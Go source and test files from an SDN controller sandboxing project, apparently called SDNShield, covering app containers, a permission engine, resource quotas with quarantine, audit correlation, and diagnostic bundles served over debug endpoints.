	frames := recorder.Default().Snapshot(recorder.FrameFilter{App: "meter", Kind: recorder.KindMediatedCall})
	if len(frames) < calls {
		t.Fatalf("recorded %d mediated-call frames, want >= %d", len(frames), calls)
	}
	for _, f := range frames {
		if f.Corr == 0 || f.Op != "switches" || f.Code != "ok" {
			t.Fatalf("frame = %+v", f)
		}
	}
}

func TestSetBudgetBeforeLaunchApplies(t *testing.T) {
	env := newEnvCfg(t, 1, noQuotaLoop())
	env.shield.SetBudget("early", core.Budget{CPUMillisPerSec: 100})
	grant(t, env.shield, "early", "PERM visible_topology")
	if err := env.shield.Launch(app("early", func(API) error { return nil })); err != nil {
		t.Fatal(err)
	}
	u := env.shield.UsageSnapshot()["early"]
	if u.Budget == nil || u.Budget.CPUMillisPerSec != 100 {
		t.Fatalf("budget = %+v, want CPU_MS_PER_SEC 100 applied at launch", u.Budget)
	}
}

func TestCheckQuotasBreachEmitsAuditFrameAndBundle(t *testing.T) {
	prevAudit := audit.SetEnabled(true)
	defer audit.SetEnabled(prevAudit)
	recorder.DefaultBundler().SetCooldown(0)
	defer recorder.DefaultBundler().SetCooldown(30 * time.Second)

	env := newEnvCfg(t, 1, noQuotaLoop())
	grant(t, env.shield, "greedy", "PERM visible_topology")
	if err := env.shield.Launch(app("greedy", func(API) error { return nil })); err != nil {
		t.Fatal(err)
	}
	env.shield.SetBudget("greedy", core.Budget{CPUMillisPerSec: 10})
	c, _ := env.shield.Container("greedy")

	t0 := time.Now()
	if br := env.shield.CheckQuotas(t0); br != nil {
		t.Fatalf("baseline sweep reported breaches: %+v", br)
	}
	// 50 ms of charged execution over a 1 s window: 5x the budget.
	c.res.cpuNanos.Add(50e6)
	breaches := env.shield.CheckQuotas(t0.Add(time.Second))
	if len(breaches) != 1 {
		t.Fatalf("breaches = %+v, want 1", breaches)
	}
	br := breaches[0]
	if br.App != "greedy" || br.Dimension != "CPU_MS_PER_SEC" || br.Observed < 45 || br.Limit != 10 {
		t.Fatalf("breach = %+v", br)
	}
	if got := c.res.breaches.Load(); got != 1 {
		t.Fatalf("breach counter = %d, want 1", got)
	}
	// Soft quota: the app keeps running.
	if c.Health() != Running {
		t.Fatalf("health = %v, want running (no escalation configured)", c.Health())
	}

	// The breach landed in the audit journal...
	audit.Default().Flush()
	var audited bool
	for _, ev := range audit.Default().Query(audit.Filter{App: "greedy"}) {
		if ev.Kind == audit.KindResource && ev.Verdict == audit.VerdictBreach && ev.Op == "CPU_MS_PER_SEC" {
			audited = true
		}
	}
	if !audited {
		t.Fatal("no resource/quota_breach audit event")
	}
	// ...the flight recorder...
	frames := recorder.Default().Snapshot(recorder.FrameFilter{App: "greedy", Kind: recorder.KindQuota})
	if len(frames) == 0 || frames[len(frames)-1].Code != "breach" {
		t.Fatalf("quota frames = %+v", frames)
	}
	// ...and a diagnostic bundle.
	var bundled bool
	for _, info := range recorder.DefaultBundler().Recent() {
		if info.Trigger == recorder.TriggerQuota && info.App == "greedy" {
			bundled = true
		}
	}
	if !bundled {
		t.Fatal("no quota-breach bundle captured")
	}
}

func TestQuotaEscalationQuarantines(t *testing.T) {
	cfg := noQuotaLoop()
	cfg.QuotaEscalateAfter = 2
	env := newEnvCfg(t, 1, cfg)
	grant(t, env.shield, "hog", "PERM visible_topology")
	var api API
	if err := env.shield.Launch(app("hog", func(a API) error { api = a; return nil })); err != nil {
		t.Fatal(err)
	}
	env.shield.SetBudget("hog", core.Budget{CPUMillisPerSec: 1})
	c, _ := env.shield.Container("hog")

	now := time.Now()
	env.shield.CheckQuotas(now) // baseline
	c.res.cpuNanos.Add(20e6)
	env.shield.CheckQuotas(now.Add(time.Second)) // streak 1
	if c.Health() != Running {
		t.Fatalf("quarantined after a single breach, want escalation at 2")
	}
	c.res.cpuNanos.Add(20e6)
	env.shield.CheckQuotas(now.Add(2 * time.Second)) // streak 2 → quarantine
	if c.Health() != Quarantined {
		t.Fatalf("health = %v, want quarantined after %d consecutive breaches", c.Health(), 2)
	}
	if reason := c.QuarantineReason(); !strings.Contains(reason, "budget") {
		t.Fatalf("quarantine reason = %q", reason)
	}
	if _, err := api.Switches(); !errors.Is(err, ErrAppQuarantined) {
		t.Fatalf("quarantined API err = %v, want ErrAppQuarantined", err)
	}
	// A quarantined app is skipped by later sweeps.
	c.res.cpuNanos.Add(20e6)
	if br := env.shield.CheckQuotas(now.Add(3 * time.Second)); br != nil {
		t.Fatalf("quarantined app swept again: %+v", br)
	}
}

// TestQuotaBreachEndToEnd drives the full observability path the issue
// specifies: mediated calls leave correlated flight-recorder frames, a
// quota breach emits an audit event and captures a diagnostic bundle,
// and /debug/bundle serves that bundle with the app's frames, its
// resource usage, its anomaly snapshot and, for a chosen correlation
// ID, every frame of that call.
func TestQuotaBreachEndToEnd(t *testing.T) {
	prevAudit := audit.SetEnabled(true)
	defer audit.SetEnabled(prevAudit)
	recorder.DefaultBundler().SetCooldown(0)
	defer recorder.DefaultBundler().SetCooldown(30 * time.Second)

	env := newEnvCfg(t, 2, noQuotaLoop())
	grant(t, env.shield, "e2e", "PERM visible_topology\nPERM read_statistics")
	var api API
	if err := env.shield.Launch(app("e2e", func(a API) error { api = a; return nil })); err != nil {
		t.Fatal(err)
	}
	recorder.Default().Reset()
	for i := 0; i < 10; i++ {
		if _, err := api.Switches(); err != nil {
			t.Fatal(err)
		}
	}

	env.shield.SetBudget("e2e", core.Budget{CPUMillisPerSec: 5})
	c, _ := env.shield.Container("e2e")
	t0 := time.Now()
	env.shield.CheckQuotas(t0)
	c.res.cpuNanos.Add(40e6)
	if br := env.shield.CheckQuotas(t0.Add(time.Second)); len(br) != 1 {
		t.Fatalf("breaches = %+v", br)
	}
	audit.Default().Flush()

	h := obs.NewHandler(obs.NewRegistry(), nil)

	// /apps reports the app's live usage.
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, httptest.NewRequest("GET", "/apps", nil))
	if rec.Code != 200 || !strings.Contains(rec.Body.String(), `"e2e"`) {
		t.Fatalf("/apps: %d %s", rec.Code, rec.Body.String())
	}

	// The breach bundle is listed on /debug/bundle.
	rec = httptest.NewRecorder()
	h.ServeHTTP(rec, httptest.NewRequest("GET", "/debug/bundle", nil))
	var list struct {
		Bundles []recorder.BundleInfo `json:"bundles"`
	}
	if err := json.Unmarshal(rec.Body.Bytes(), &list); err != nil {
		t.Fatal(err)
	}
	var id string
	for _, info := range list.Bundles {
		if info.Trigger == recorder.TriggerQuota && info.App == "e2e" {
			id = info.ID
			break
		}
	}
	if id == "" {
		t.Fatalf("no quota bundle listed: %+v", list.Bundles)
	}

	// Fetching it yields the correlated capture.
	rec = httptest.NewRecorder()
	h.ServeHTTP(rec, httptest.NewRequest("GET", "/debug/bundle?id="+id, nil))
	var bundle recorder.Bundle
	if err := json.Unmarshal(rec.Body.Bytes(), &bundle); err != nil {
		t.Fatal(err)
	}
	var corr uint64
	var sawQuota bool
	for _, f := range bundle.Frames {
		if f.Kind == "mediated_call" && f.Corr != 0 {
			corr = f.Corr
		}
		if f.Kind == "quota" && f.Code == "breach" {
			sawQuota = true
		}
	}
	if corr == 0 {
		t.Fatal("bundle frames lack a correlated mediated call")
	}
	if !sawQuota {
		t.Fatal("bundle frames lack the quota-breach frame")
	}
	if bundle.Anomaly == nil || bundle.Anomaly.App != "e2e" {
		t.Fatalf("anomaly snapshot = %+v", bundle.Anomaly)
	}
	var audited bool
	for _, ev := range bundle.Audit {
		if ev.Kind == audit.KindResource && ev.Verdict == audit.VerdictBreach {
			audited = true
		}
	}
	if !audited {
		t.Fatal("bundle audit tail lacks the breach event")
	}
	usage, err := json.Marshal(bundle.Usage)
	if err != nil || !strings.Contains(string(usage), `"e2e"`) {
		t.Fatalf("bundle usage lacks the app: %s (%v)", usage, err)
	}

	// A capture scoped to one correlation ID returns that call's frames
	// across every layer.
	rec = httptest.NewRecorder()
	h.ServeHTTP(rec, httptest.NewRequest("GET",
		"/debug/bundle?capture=1&app=e2e&corr="+strconv.FormatUint(corr, 10), nil))
	var manual recorder.Bundle
	if err := json.Unmarshal(rec.Body.Bytes(), &manual); err != nil {
		t.Fatal(err)
	}
	if len(manual.CorrFrames) == 0 {
		t.Fatal("correlation-scoped capture returned no frames")
	}
	for _, f := range manual.CorrFrames {
		if f.Corr != corr {
			t.Fatalf("corr frame = %+v, want corr %d", f, corr)
		}
	}
}
