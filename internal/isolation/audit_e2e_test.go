package isolation

import (
	"testing"

	"sdnshield/internal/controller"
	"sdnshield/internal/obs/audit"
	"sdnshield/internal/of"
)

// TestAuditCorrelationEndToEnd drives an app through the sandbox to a
// simulated switch and asserts causal attribution: the flow-mod's audit
// event carries the same correlation ID as the permission decision of the
// mediated call that caused it.
func TestAuditCorrelationEndToEnd(t *testing.T) {
	env := newEnv(t, 2)
	grant(t, env.shield, "router", "PERM insert_flow LIMITING ACTION FORWARD AND OWN_FLOWS")

	var api API
	if err := env.shield.Launch(app("router", func(a API) error { api = a; return nil })); err != nil {
		t.Fatal(err)
	}

	j := audit.Default()
	start := j.LastSeq()
	dpid := env.kernel.Topology().SwitchIDs()[0]
	spec := controller.FlowSpec{
		Match:    of.NewMatch().Set(of.FieldIPDst, uint64(env.built.Hosts[1].IP())),
		Priority: 10,
		Actions:  []of.Action{of.Output(2)},
	}
	if err := api.InsertFlow(dpid, spec); err != nil {
		t.Fatal(err)
	}
	j.Flush()

	events := j.Query(audit.Filter{App: "router", AfterSeq: start})
	var perm, flow *audit.Event
	for i := range events {
		ev := &events[i]
		switch {
		case ev.Kind == audit.KindPermission && ev.Verdict == audit.VerdictAllow:
			perm = ev
		case ev.Kind == audit.KindFlowMod && ev.Verdict == audit.VerdictSent:
			flow = ev
		}
	}
	if perm == nil {
		t.Fatalf("no permission allow event for router in %+v", events)
	}
	if flow == nil {
		t.Fatalf("no flow_mod sent event for router in %+v", events)
	}
	if perm.Corr == 0 {
		t.Fatal("permission event has no correlation ID")
	}
	if flow.Corr != perm.Corr {
		t.Fatalf("flow-mod corr %d != permission corr %d: attribution broken",
			flow.Corr, perm.Corr)
	}
	if flow.DPID != uint64(dpid) {
		t.Errorf("flow-mod event DPID = %d, want %d", flow.DPID, dpid)
	}
	if flow.Op != "add" {
		t.Errorf("flow-mod event op = %q, want add", flow.Op)
	}
	if perm.Token != "insert_flow" {
		t.Errorf("permission event token = %q, want insert_flow", perm.Token)
	}
}

// TestAuditDenialBurstFlagsAnomaly asserts a sustained denial burst from
// one app raises the denial-rate anomaly flag in HealthSnapshot without
// affecting a well-behaved app running alongside it.
func TestAuditDenialBurstFlagsAnomaly(t *testing.T) {
	env := newEnv(t, 2)
	det := audit.DefaultDetector()
	det.Reset()
	t.Cleanup(det.Reset)

	// quiet holds the permission and uses it; noisy has no manifest, so
	// every insert is denied.
	grant(t, env.shield, "quiet-e2e", "PERM insert_flow LIMITING ACTION FORWARD AND OWN_FLOWS")
	var quietAPI, noisyAPI API
	if err := env.shield.Launch(app("quiet-e2e", func(a API) error { quietAPI = a; return nil })); err != nil {
		t.Fatal(err)
	}
	if err := env.shield.Launch(app("noisy-e2e", func(a API) error { noisyAPI = a; return nil })); err != nil {
		t.Fatal(err)
	}

	dpid := env.kernel.Topology().SwitchIDs()[0]
	spec := controller.FlowSpec{
		Match:    of.NewMatch().Set(of.FieldIPDst, uint64(env.built.Hosts[1].IP())),
		Priority: 11,
		Actions:  []of.Action{of.Output(2)},
	}
	for i := 0; i < 4; i++ {
		if err := quietAPI.InsertFlow(dpid, spec); err != nil {
			t.Fatalf("quiet insert %d: %v", i, err)
		}
	}
	// Burst well past the detector's per-window threshold (default 128).
	for i := 0; i < 200; i++ {
		if err := noisyAPI.InsertFlow(dpid, spec); err == nil {
			t.Fatal("noisy insert unexpectedly allowed")
		}
	}
	// Flush so the detector (a journal consumer) has observed the burst.
	audit.Default().Flush()

	snap := env.shield.HealthSnapshot()
	byApp := make(map[string]AppHealthSnapshot, len(snap.Apps))
	for _, a := range snap.Apps {
		byApp[a.App] = a
	}
	noisy, ok := byApp["noisy-e2e"]
	if !ok {
		t.Fatalf("noisy-e2e missing from HealthSnapshot: %+v", snap.Apps)
	}
	if !noisy.DenialAnomaly {
		t.Errorf("noisy-e2e not flagged after 200-denial burst: %+v", noisy)
	}
	quiet, ok := byApp["quiet-e2e"]
	if !ok {
		t.Fatalf("quiet-e2e missing from HealthSnapshot: %+v", snap.Apps)
	}
	if quiet.DenialAnomaly {
		t.Errorf("quiet-e2e wrongly flagged: %+v", quiet)
	}
}
