package isolation

import (
	"testing"
	"time"

	"sdnshield/internal/controller"
	"sdnshield/internal/of"
)

// TestFlowRemovedEventOwnershipFilter: flow_event LIMITING OWN_FLOWS only
// delivers removals of the app's own rules.
func TestFlowRemovedEventOwnershipFilter(t *testing.T) {
	env := newEnv(t, 1)
	grant(t, env.shield, "writer", "PERM insert_flow\nPERM delete_flow")
	grant(t, env.shield, "watcher", "PERM insert_flow\nPERM delete_flow\nPERM flow_event LIMITING OWN_FLOWS")

	var writer, watcher API
	if err := env.shield.Launch(app("writer", func(a API) error { writer = a; return nil })); err != nil {
		t.Fatal(err)
	}
	removed := make(chan string, 8)
	if err := env.shield.Launch(app("watcher", func(a API) error {
		watcher = a
		return a.Subscribe(controller.EventFlowRemoved, func(ev controller.Event) {
			removed <- ev.FlowOwner
		})
	})); err != nil {
		t.Fatal(err)
	}

	own := of.NewMatch().Set(of.FieldTPDst, 443)
	foreign := of.NewMatch().Set(of.FieldTPDst, 80)
	if err := watcher.InsertFlow(1, controller.FlowSpec{Match: own, Priority: 5, Actions: []of.Action{of.Output(1)}}); err != nil {
		t.Fatal(err)
	}
	if err := writer.InsertFlow(1, controller.FlowSpec{Match: foreign, Priority: 5, Actions: []of.Action{of.Output(1)}}); err != nil {
		t.Fatal(err)
	}

	// The writer's own deletion must NOT reach the watcher...
	if err := writer.DeleteFlow(1, foreign, 0, false); err != nil {
		t.Fatal(err)
	}
	// ...the watcher's own deletion must.
	if err := watcher.DeleteFlow(1, own, 0, false); err != nil {
		t.Fatal(err)
	}

	select {
	case owner := <-removed:
		if owner != "watcher" {
			t.Fatalf("foreign removal leaked to watcher (owner %q)", owner)
		}
	case <-time.After(2 * time.Second):
		t.Fatal("own removal event never delivered")
	}
	select {
	case owner := <-removed:
		t.Fatalf("unexpected extra event (owner %q)", owner)
	case <-time.After(50 * time.Millisecond):
	}
}

// TestModifyFlowAllowedPath: an app modifying its own rules succeeds and
// the change reaches the switch.
func TestModifyFlowAllowedPath(t *testing.T) {
	env := newEnv(t, 1)
	grant(t, env.shield, "app", "PERM insert_flow LIMITING OWN_FLOWS")
	var api API
	if err := env.shield.Launch(app("app", func(a API) error { api = a; return nil })); err != nil {
		t.Fatal(err)
	}
	m := of.NewMatch().Set(of.FieldTPDst, 8080)
	if err := api.InsertFlow(1, controller.FlowSpec{Match: m, Priority: 4, Actions: []of.Action{of.Output(1)}}); err != nil {
		t.Fatal(err)
	}
	// modify_flow is not granted, so the insert_flow fallback (Table II:
	// "including insert and modify") authorizes the modify.
	if err := api.ModifyFlow(1, m, 4, []of.Action{of.Output(2)}); err != nil {
		t.Fatalf("own-flow modify denied: %v", err)
	}
	if err := env.kernel.Barrier(1); err != nil {
		t.Fatal(err)
	}
	sw, _ := env.built.Net.Switch(1)
	entries := sw.Table().Entries(nil)
	if len(entries) != 1 || entries[0].Actions[0].Port != 2 {
		t.Fatalf("modify not applied: %v", entries)
	}
}

// TestIdleTimeoutFlowRemovedReachesApps: switch-side expiry produces a
// flow_event delivery and cleans the kernel shadow.
func TestIdleTimeoutFlowRemovedReachesApps(t *testing.T) {
	env := newEnv(t, 1)
	grant(t, env.shield, "app", "PERM insert_flow\nPERM flow_event")
	events := make(chan *of.FlowRemoved, 4)
	var api API
	if err := env.shield.Launch(app("app", func(a API) error {
		api = a
		return a.Subscribe(controller.EventFlowRemoved, func(ev controller.Event) {
			events <- ev.FlowRemoved
		})
	})); err != nil {
		t.Fatal(err)
	}
	m := of.NewMatch().Set(of.FieldTPDst, 7)
	if err := api.InsertFlow(1, controller.FlowSpec{
		Match: m, Priority: 3, Actions: []of.Action{of.Output(1)}, IdleTimeout: 1,
	}); err != nil {
		t.Fatal(err)
	}
	if err := env.kernel.Barrier(1); err != nil {
		t.Fatal(err)
	}

	// Drive expiry: the harness ticks the switch's expiry scan after the
	// idle interval has passed.
	sw, _ := env.built.Net.Switch(1)
	deadline := time.Now().Add(5 * time.Second)
	for {
		sw.ExpireFlows()
		select {
		case fr := <-events:
			if fr.Reason != of.RemovedIdleTimeout {
				t.Fatalf("reason = %v", fr.Reason)
			}
			// The shadow is cleaned too.
			pollDeadline := time.Now().Add(time.Second)
			for {
				flows, err := env.kernel.Flows(1, nil)
				if err != nil {
					t.Fatal(err)
				}
				if len(flows) == 0 {
					return
				}
				if time.Now().After(pollDeadline) {
					t.Fatalf("shadow retains %v", flows)
				}
				time.Sleep(time.Millisecond)
			}
		default:
		}
		if time.Now().After(deadline) {
			t.Fatal("idle timeout never fired")
		}
		time.Sleep(50 * time.Millisecond)
	}
}
