package isolation

import (
	"errors"
	"fmt"
	"sync"
	"sync/atomic"
	"time"

	"sdnshield/internal/controller"
	"sdnshield/internal/core"
	"sdnshield/internal/obs"
	"sdnshield/internal/obs/audit"
	"sdnshield/internal/obs/recorder"
	"sdnshield/internal/obs/span"
	"sdnshield/internal/of"
	"sdnshield/internal/permengine"
)

// Config tunes the shielded runtime.
type Config struct {
	// KSDWorkers is the size of the Kernel Service Deputy pool. Multiple
	// deputies run in parallel to offload API requests from apps (§VI-A).
	// Default 4.
	KSDWorkers int
	// EventQueueSize is the per-app event queue depth. Events beyond it
	// are dropped (and counted) rather than blocking the kernel. Default
	// 1024.
	EventQueueSize int
	// EventWorkers is the number of event-delivery goroutines per app
	// container — the paper's model of apps spawning worker threads that
	// inherit their parent's (unprivileged) principal. Default 1
	// (strictly ordered delivery); raise it for throughput-oriented apps.
	EventWorkers int
	// ActivityLogSize enables the forensic activity log (§VII) with the
	// given ring-buffer capacity. Zero disables logging; the engine's
	// check/denial counters remain available either way.
	ActivityLogSize int
	// DropOnFullQueue makes event delivery non-blocking: events beyond
	// EventQueueSize are dropped (and counted) instead of exerting
	// backpressure on the kernel's dispatcher. The blocking default
	// mirrors the monolithic baseline, where a slow handler naturally
	// throttles its switch's dispatch.
	DropOnFullQueue bool
	// RestartBackoff is the supervisor's delay before re-initializing an
	// app after a panic; it doubles with each consecutive failure.
	// Default 10 ms.
	RestartBackoff time.Duration
	// PanicLimit quarantines an app after this many panics within
	// PanicWindow: its handlers are unhooked, its API handle dies with
	// ErrAppQuarantined, and the rest of the shield keeps running.
	// Default 5.
	PanicLimit int
	// PanicWindow is the sliding window PanicLimit counts over. Default
	// 30 s.
	PanicWindow time.Duration
	// QuotaCheckInterval is how often the shield sweeps per-app resource
	// usage against manifest budgets (resources.go). Default 1 s;
	// negative disables the background sweep (CheckQuotas can still be
	// called directly).
	QuotaCheckInterval time.Duration
	// QuotaEscalateAfter quarantines an app whose budget is breached on
	// this many consecutive sweeps. Zero (the default) never escalates:
	// breaches stay soft — audit events, recorder frames and diagnostic
	// bundles only.
	QuotaEscalateAfter int
}

func (c *Config) fill() {
	if c.KSDWorkers <= 0 {
		c.KSDWorkers = 4
	}
	if c.EventQueueSize <= 0 {
		c.EventQueueSize = 1024
	}
	if c.EventWorkers <= 0 {
		c.EventWorkers = 1
	}
	if c.RestartBackoff <= 0 {
		c.RestartBackoff = 10 * time.Millisecond
	}
	if c.PanicLimit <= 0 {
		c.PanicLimit = 5
	}
	if c.PanicWindow <= 0 {
		c.PanicWindow = 30 * time.Second
	}
	if c.QuotaCheckInterval == 0 {
		c.QuotaCheckInterval = time.Second
	}
}

// ErrShieldStopped reports API use after shutdown.
var ErrShieldStopped = errors.New("isolation: shield stopped")

// Shield is the SDNShield runtime: the permission engine, the KSD pool
// and the app containers.
type Shield struct {
	kernel *controller.Kernel
	engine *permengine.Engine
	cfg    Config

	reqCh     chan func()
	replyPool sync.Pool
	workers   sync.WaitGroup
	stopped   atomic.Bool

	mu         sync.Mutex
	containers map[string]*Container
	// pendingBudgets holds quotas set before the app launched; guarded
	// by mu.
	pendingBudgets map[string]core.Budget

	quotaStop chan struct{}
	quotaWG   sync.WaitGroup

	unregisterHealth func()
}

// NewShield builds the shielded runtime over a kernel. The permission
// engine resolves stateful filters against the kernel's shadow tables.
func NewShield(kernel *controller.Kernel, cfg Config) *Shield {
	cfg.fill()
	var opts []permengine.Option
	if cfg.ActivityLogSize > 0 {
		opts = append(opts, permengine.WithActivityLog(cfg.ActivityLogSize))
	}
	s := &Shield{
		kernel:         kernel,
		engine:         permengine.New(kernel, opts...),
		cfg:            cfg,
		reqCh:          make(chan func(), 256),
		containers:     make(map[string]*Container),
		pendingBudgets: make(map[string]core.Budget),
	}
	s.replyPool.New = func() interface{} { return make(chan error, 1) }
	s.unregisterHealth = registerHealth(s)
	for i := 0; i < cfg.KSDWorkers; i++ {
		s.workers.Add(1)
		go s.ksdLoop()
	}
	if cfg.QuotaCheckInterval > 0 {
		s.quotaStop = make(chan struct{})
		s.quotaWG.Add(1)
		go s.quotaLoop(cfg.QuotaCheckInterval)
	}
	return s
}

// Engine exposes the permission engine (for permission installation and
// audit).
func (s *Shield) Engine() *permengine.Engine { return s.engine }

// Kernel exposes the trusted kernel (test and harness use only; apps
// never see it).
func (s *Shield) Kernel() *controller.Kernel { return s.kernel }

// SetPermissions installs an app's reconciled permission set.
func (s *Shield) SetPermissions(app string, set *core.Set) {
	s.engine.SetPermissions(app, set)
}

// SetProvenance records the reconciliation repair notes attached to the
// app's active permission set (market.ProvenanceRuntime); /explain
// cross-references them when naming a denial's deciding term.
func (s *Shield) SetProvenance(app string, notes []string) {
	s.engine.SetProvenance(app, notes)
}

// ksdLoop is one Kernel Service Deputy: it executes mediated API calls on
// behalf of apps.
func (s *Shield) ksdLoop() {
	defer s.workers.Done()
	for fn := range s.reqCh {
		fn()
	}
}

// do routes a closure through the KSD pool and waits for its completion —
// the inter-thread hop whose cost the paper's end-to-end overhead
// measurements capture. op names the mediated operation for the per-op
// latency histogram and the call-path trace. One sampler decision gates
// the aggregate measurement: unsampled calls pay a single atomic add,
// sampled ones share their timestamps between the hop histogram, the
// per-op histogram and (for the traced subset) the trace spans.
//
// c is the calling app's container; corr is the call's correlation ID.
// Durations and queue residency ride the same sampler decision:
// time.Now() costs tens of nanoseconds — two on-path reads alone would
// blow the recorder's 5% budget against a microsecond call — so the
// unsampled majority pays no clock read, and the resource accounting
// scales sampled measurements back to full rate by the sampling
// period. When the flight recorder is on, every call still leaves a
// frame (app, op, outcome, correlation ID, completion timestamp); the
// timestamp is read after the reply is sent, and the sampled subset's
// frames additionally carry execution time and queue residency.
func (s *Shield) do(c *Container, op *mediatedOp, corr uint64, fn func() error) error {
	if s.stopped.Load() {
		return ErrShieldStopped
	}
	var t obs.Timer
	var tr *obs.Trace
	var enq time.Time
	var weight int64
	if mediatedSampler.Hit() {
		t = obs.StartTimer()
		tr = obs.DefaultTracer().Start(op.name)
		tr.SetCorr(corr)
		mKSDQueueDepth.Set(int64(len(s.reqCh)))
		enq = time.Now()
		if weight = int64(obs.LatencySampling()); weight < 1 {
			weight = 1
		}
	}
	rec := recorder.On()
	if c != nil {
		c.res.calls.Add(1)
		c.res.goroutines.Add(1)
		defer c.res.goroutines.Add(-1)
	}
	done, _ := s.replyPool.Get().(chan error)
	s.reqCh <- func() {
		var pickup time.Time
		var wait time.Duration
		if !enq.IsZero() {
			pickup = time.Now()
			wait = pickup.Sub(enq)
			mKSDHopSeconds.Observe(wait)
			if tr != nil {
				tr.AddSpan("ksd_queue", tr.Start, wait)
			}
		}
		sp := tr.StartSpan("exec")
		sampleAlloc := c != nil && c.res.sampleAlloc()
		var allocBefore int64
		if sampleAlloc {
			allocBefore = heapAllocBytes()
		}
		err := s.protect(fn)
		sp.End()
		done <- err
		// Accounting and frame recording happen after the reply: the
		// deputy does the bookkeeping — clock reads included — off the
		// caller's critical path. exec therefore includes the reply
		// handoff: tens of nanoseconds against microsecond calls, a fair
		// trade for keeping the measured path clock-free.
		var exec time.Duration
		if !pickup.IsZero() {
			exec = time.Since(pickup)
		}
		if sampleAlloc {
			if delta := heapAllocBytes() - allocBefore; delta > 0 {
				c.res.allocBytes.Add(delta * allocSamplePeriod)
			}
		}
		if c == nil {
			return
		}
		if !pickup.IsZero() {
			c.res.account(exec, wait, weight)
		}
		if rec {
			code := recorder.CodeOK
			if err != nil {
				code = recorder.CodeError
				var denied *permengine.DeniedError
				if errors.As(err, &denied) {
					code = recorder.CodeDenied
				}
			}
			// Unsampled frames carry TS 0: Record stamps them with the
			// last measured timestamp instead of a fresh clock read.
			var ts int64
			if !pickup.IsZero() {
				ts = pickup.Add(exec).UnixNano()
			}
			recorder.Record(recorder.Frame{
				TS:   ts,
				Kind: recorder.KindMediatedCall,
				Code: code,
				App:  c.sym,
				Op:   op.sym,
				Corr: corr,
				Dur:  int64(exec),
				Arg:  int64(wait),
			})
		}
	}
	err := <-done
	s.replyPool.Put(done)
	if t.Active() {
		op.hist.ObserveTraced(t.Elapsed(), tr)
	}
	tr.Finish()
	// The traced subset (already sampled twice: the measurement sampler
	// above, then the tracer's own rate) additionally lands in the span
	// layer under the call's corr, unifying mediated-call traces with the
	// operation traces at /trace/<corr>. Unsampled calls never reach this
	// branch — their only tracing cost is the sampler's atomic add.
	if tr != nil {
		span.RecordTrace(corr, tr.Snapshot())
	}
	return err
}

// protect shields a deputy from the closure it runs on an app's behalf: a
// panic inside a mediated call is converted to an error for the caller
// (and counted on the engine) instead of killing the KSD worker.
func (s *Shield) protect(fn func() error) (err error) {
	defer func() {
		if r := recover(); r != nil {
			s.engine.CountAPIPanic()
			err = fmt.Errorf("isolation: panic in mediated API call: %v", r)
		}
	}()
	return fn()
}

// doValue is do for calls with results.
func doValue[T any](s *Shield, c *Container, op *mediatedOp, corr uint64, fn func() (T, error)) (T, error) {
	var out T
	err := s.do(c, op, corr, func() error {
		var err error
		out, err = fn()
		return err
	})
	return out, err
}

// Launch starts an app in its own container: Init runs on the container
// goroutine with a mediated API handle. Panics in Init or handlers are
// contained (the container dies, the controller survives).
func (s *Shield) Launch(app App) error {
	if s.stopped.Load() {
		return ErrShieldStopped
	}
	name := app.Name()
	s.mu.Lock()
	if _, dup := s.containers[name]; dup {
		s.mu.Unlock()
		return fmt.Errorf("isolation: app %q already launched", name)
	}
	c := &Container{
		name:     name,
		shield:   s,
		app:      app,
		sym:      recorder.Intern(name),
		events:   make(chan controller.Event, s.cfg.EventQueueSize),
		handlers: make(map[controller.EventKind][]controller.Handler),
		kernels:  make(map[controller.EventKind]int),
		stop:     make(chan struct{}),
		done:     make(chan struct{}),
		metrics:  newAppCounters(name),
	}
	if b, ok := s.pendingBudgets[name]; ok {
		c.res.setBudget(b)
		delete(s.pendingBudgets, name)
	}
	s.containers[name] = c
	s.mu.Unlock()
	registerAppGauges(c)

	api := newShieldedAPI(s, c)
	c.api = api
	initErr := make(chan error, 1)
	go func() {
		initErr <- c.safeInit(app, api)
		c.eventLoop()
	}()
	// Additional event workers model app-spawned threads; they inherit
	// the container's (unprivileged) principal.
	for i := 1; i < s.cfg.EventWorkers; i++ {
		c.workers.Add(1)
		go func() {
			defer c.workers.Done()
			c.extraEventLoop()
		}()
	}
	if err := <-initErr; err != nil {
		s.removeContainer(name)
		c.Stop()
		return fmt.Errorf("init app %q: %w", name, err)
	}
	return nil
}

// AttackerHandle returns a mediated API handle bound to a launched app,
// modeling the threat of arbitrary code execution inside the app (§II):
// the attacker operates with exactly the app's privileges, never more.
// Experiments and examples use it to drive attacks "as" a compromised
// app.
func AttackerHandle(s *Shield, app string) (API, error) {
	c, ok := s.Container(app)
	if !ok {
		return nil, fmt.Errorf("isolation: app %q not launched", app)
	}
	return newShieldedAPI(s, c), nil
}

// Container returns a launched app's container.
func (s *Shield) Container(name string) (*Container, bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	c, ok := s.containers[name]
	return c, ok
}

func (s *Shield) removeContainer(name string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	delete(s.containers, name)
}

// Stop terminates every container and the KSD pool.
func (s *Shield) Stop() {
	if s.stopped.Swap(true) {
		return
	}
	s.mu.Lock()
	containers := make([]*Container, 0, len(s.containers))
	for _, c := range s.containers {
		containers = append(containers, c)
	}
	s.containers = make(map[string]*Container)
	s.mu.Unlock()
	if s.quotaStop != nil {
		close(s.quotaStop)
		s.quotaWG.Wait()
	}
	for _, c := range containers {
		c.Stop()
	}
	close(s.reqCh)
	s.workers.Wait()
	if s.unregisterHealth != nil {
		s.unregisterHealth()
	}
}

// ---------------------------------------------------------------------------
// Containers

// Container is an app's sandbox: its event queue, its registered
// handlers and its lifecycle. It stands in for the paper's unprivileged
// Java thread: the app's code only ever runs on the container goroutine,
// holding a mediated API handle and no kernel references.
type Container struct {
	name   string
	shield *Shield
	app    App // retained so the supervisor can re-run Init
	api    API
	// sym is the app name interned once for the flight recorder.
	sym recorder.Sym

	events chan controller.Event

	hmu      sync.Mutex
	handlers map[controller.EventKind][]controller.Handler
	kernels  map[controller.EventKind]int // kernel subscription ids

	stopOnce sync.Once
	stop     chan struct{}
	done     chan struct{}
	workers  sync.WaitGroup

	// Supervisor state: health transitions, restart counting and the
	// sliding panic window (see supervisor.go).
	health     atomic.Int32 // Health; zero value is Running
	restarts   atomic.Uint64
	supMu      sync.Mutex
	panicTimes []time.Time
	streak     int    // consecutive failures since the last healthy run
	quarReason string // why the app was quarantined; guarded by supMu

	dropped atomic.Uint64
	panics  atomic.Uint64

	metrics appCounters
	// res is the container's live resource accounting and soft quota
	// (resources.go).
	res resourceState
}

